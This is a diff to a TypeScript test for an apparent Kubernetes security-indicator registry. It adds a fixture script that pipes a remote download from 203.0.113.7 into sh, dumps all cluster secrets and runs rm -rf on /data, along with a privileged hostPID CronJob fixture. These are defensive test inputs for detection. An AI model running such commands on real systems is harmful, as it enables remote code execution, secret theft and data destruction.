@@ -4,7 +4,7 @@ import { test } from 'node:test';
 import { ATTACK } from '../model/attack.ts';
 import { SEVERITIES } from '../model/finding.ts';
 import { assessAll, BASELINE_INDICATORS, INDICATORS } from './registry.ts';
-import { blank, bodyUnseen } from './testing.ts';
+import { blank, bodyUnseen, cronJob, script } from './testing.ts';
 
 const folder = new URL('./', import.meta.url);
 
@@ -84,5 +84,20 @@ test('indicators of the baseline need what the baseline tells and nothing else, 
     const wanted = BASELINE_INDICATORS.includes(indicator);
     assert.equal(indicator.id.startsWith('baseline.'), wanted);
     assert.ok(facts.every((name) => ofBaseline.has(name) === wanted, indicator.id));
+  }
+});
+
+test('indicators that are asked together answer as each does alone', () => {
+  const cases = [
+    blank,
+    bodyUnseen('not-kept'),
+    script('curl -s http://203.0.113.7/a | sh; kubectl get secrets -A -o yaml; rm -rf /data/*'),
+    cronJob({ hostPID: true, containers: [{ name: 'a', image: 'alpine', securityContext: { privileged: true } }] }),
+  ];
+  for (const facts of cases) {
+    assert.deepEqual(
+      assessAll(facts),
+      INDICATORS.map((indicator) => indicator.assess(facts)),
+    );
   }
 });
